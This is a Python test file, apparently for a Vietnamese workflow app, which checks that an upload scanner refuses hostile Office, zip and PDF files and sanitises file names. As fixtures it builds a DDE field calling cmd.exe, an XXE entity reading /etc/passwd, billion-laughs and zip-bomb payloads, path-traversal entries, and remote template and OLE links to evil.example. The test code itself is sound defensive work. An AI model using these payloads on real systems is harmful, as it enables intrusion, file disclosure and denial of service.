"""The gate for uploads: sixteen hostile files and their kin are refused, plain ones pass."""

import re
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from document_templates import ooxml
from tests.documents.support import AT, docx, raw_zip, relationship, sample, template, with_parts
from workflow_app.documents import uploads
from workflow_app.documents.errors import UploadRefused
from workflow_app.documents.package import Package
from workflow_app.documents.rendering import render

_PLAIN = docx(ooxml.paragraph("BodyText", "Giao ước"))
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _related(kind: str, target: str, *, external: bool, part: bytes | None = None) -> bytes:
    rels = Package.read(_PLAIN).parts["word/_rels/document.xml.rels"]
    more = relationship(kind, target, external=external)
    changes: dict[str, bytes | None] = {
        "word/_rels/document.xml.rels": rels.replace(b"</Rel", more + b"</Rel", 1)
    }
    if part is not None:
        changes[f"word/{target}"] = part
    return with_parts(_PLAIN, changes)


def _typed(content_type: str) -> bytes:
    types = Package.read(_PLAIN).parts["[Content_Types].xml"]
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return with_parts(_PLAIN, {"[Content_Types].xml": types.replace(plain, content_type.encode())})


def _field(*instructions: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return docx(f"<w:p>{runs}</w:p>")


def _document(xml: bytes) -> bytes:
    return with_parts(_PLAIN, {"word/document.xml": xml})


def _stored(document: bytes) -> bytes:
    """Without compression, so that the zip itself looks innocent."""
    parts = Package.read(_PLAIN).parts | {"word/document.xml": document}
    return raw_zip(list(parts.items()), zipfile.ZIP_STORED)


_BODY = f'<w:document xmlns:w="{ooxml.W}"><w:body/></w:document>'
_LAUGHS = (
    "<!DOCTYPE a ["
    '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)

HOSTILE = {
    "old or encrypted file": (_OLE + bytes(600), "old_format"),
    "macros": (with_parts(_PLAIN, {"word/vbaProject.bin": _OLE}), "embedded"),
    "macro-enabled type": (_typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    "remote template": (
        _related("attachedTemplate", "http://evil.example/x.dotm", external=True),
        "relation",
    ),
    "local template": (_related("attachedTemplate", "file:///c:/x.dotm", external=True), "relation"),
    "external OLE": (_related("oleObject", "http://evil.example/x.doc", external=True), "relation"),
    "embedded OLE": (_related("oleObject", "embeddings/o.bin", external=False, part=_OLE), "embedded"),
    "external image": (_related("image", "http://evil.example/x.png", external=True), "relation"),
    "internal relation to a share": (_related("image", "\\\\evil\\share\\x.png", external=False), "relation"),
    "altChunk": (_related("aFChunk", "chunk.html", external=False, part=b"<html/>"), "relation"),
    "sub-document": (_related("subDocument", "other.docx", external=True), "relation"),
    "ActiveX": (_related("control", "activeX/a.xml", external=False, part=b"<x/>"), "relation"),
    "script link": (_related("hyperlink", "javascript:alert(1)", external=True), "link"),
    "DDE cut into runs": (_field(" DD", "EAUTO c:\\\\windows\\\\cmd.exe "), "field"),
    "INCLUDEPICTURE": (
        docx('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/x"/></w:p>'),
        "field",
    ),
    "external entity": (
        _document(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        "xml",
    ),
    "billion laughs": (_document((_LAUGHS + _BODY).encode()), "xml"),
    "DTD in UTF-16": (_document(("<!DOCTYPE a>" + _BODY).encode("utf-16")), "xml"),
    "malformed XML": (_document(b"<w:document>"), "xml"),
    "zip bomb": (raw_zip([("word/document.xml", bytes(39 * 2**20))]), "package"),
    "many nodes": (
        _stored(_BODY.replace("<w:body/>", f"<w:body>{'<w:p/>' * 650_000}</w:body>").encode()),
        "xml",
    ),
    "path traversal": (raw_zip([("../../etc/cron.d/x", b"x")]), "package"),
    "executable inside": (with_parts(_PLAIN, {"word/media/image1.png": b"MZ\x90\x00"}), "embedded"),
    "zip inside": (with_parts(_PLAIN, {"word/media/image1.png": raw_zip([("a", b"b")])}), "embedded"),
    "no document": (raw_zip([("readme.txt", b"x")]), "package"),
    "too large": (bytes(21 * 2**20), "size"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_with_a_sentence(name: str) -> None:
    data, code = HOSTILE[name]
    with pytest.raises(UploadRefused) as refused:
        uploads.scan(data, "giao-uoc.docx")
    assert code in {finding.code for finding in refused.value.findings}
    assert re.search(r"[ạảãàáâậầấẩẫăắằặẳẵđêệềếểễôộồốổỗơợờớởỡưựừứửữịọụỳỵỷỹý]", refused.value.vi)
    assert "evil.example" not in str(refused.value)


def test_refusing_a_bomb_takes_little_memory() -> None:
    data, _ = HOSTILE["zip bomb"]
    tracemalloc.start()
    try:
        with pytest.raises(UploadRefused):
            uploads.scan(data, "x.docx")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 50 * 2**20


@pytest.mark.parametrize(
    "key", ["pledge", "pledge_plan", "pledge_minutes", "pledge_invitation", "outgoing_register"]
)
def test_our_own_documents_pass(key: str) -> None:
    uploads.scan(render(template(key), sample(key), at=AT).data, f"{key}.docx")


def test_a_document_with_a_web_link_and_a_picture_passes() -> None:
    linked = _related("hyperlink", "https://congdoan.vn/", external=True)
    pictured = with_parts(linked, {"word/media/image1.png": b"\x89PNG\r\n\x1a\n"})
    uploads.scan(pictured, "Báo cáo.docx")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("anh.png", b"\x89PNG\r\n\x1a\nxx"),
        ("anh.JPG", b"\xff\xd8\xff\xe0xx"),
        ("scan.pdf", b"%PDF-1.7\nxx"),
    ],
)
def test_pictures_and_scans_pass(name: str, data: bytes) -> None:
    uploads.scan(data, name)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("anh.png", b"<svg/>", "type"),
        ("anh.svg", b"<svg/>", "type"),
        ("trang.html", b"<html>", "type"),
        ("tep", b"x", "type"),
        ("a.docx.exe", b"MZ", "type"),
        ("scan.pdf", b"%PDF-1.7 /OpenAction << /S /JavaScript >>", "pdf"),
        ("scan.pdf", b"%PDF-1.7 /EmbeddedFile", "pdf"),
        ("bang.xlsx", _PLAIN, "package"),
    ],
)
def test_other_files_are_refused(name: str, data: bytes, code: str) -> None:
    with pytest.raises(UploadRefused) as refused:
        uploads.scan(data, name)
    assert {finding.code for finding in refused.value.findings} == {code}


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\An\\Báo cáo quý I.docx", "Báo cáo quý I.docx"),
        ('a<b>:"c|?*.pdf', "a_b___c___.pdf"),
        ("x\u202etxt.exe", "xtxt.exe"),
        ("\0\n", "tep"),
        (f"{'dài' * 100}.docx", f"{('dài' * 100)[:115]}.docx"),
    ],
)
def test_file_names_are_made_safe_to_store_and_show(given: str, kept: str) -> None:
    assert uploads.safe_filename(given) == kept


def test_our_own_excel_files_pass(tmp_path: Path) -> None:
    xlsxwriter = pytest.importorskip("xlsxwriter")
    path = tmp_path / "x.xlsx"
    with xlsxwriter.Workbook(path) as workbook:
        workbook.add_worksheet().write_string(0, 0, "x")
    uploads.scan(path.read_bytes(), path.name)
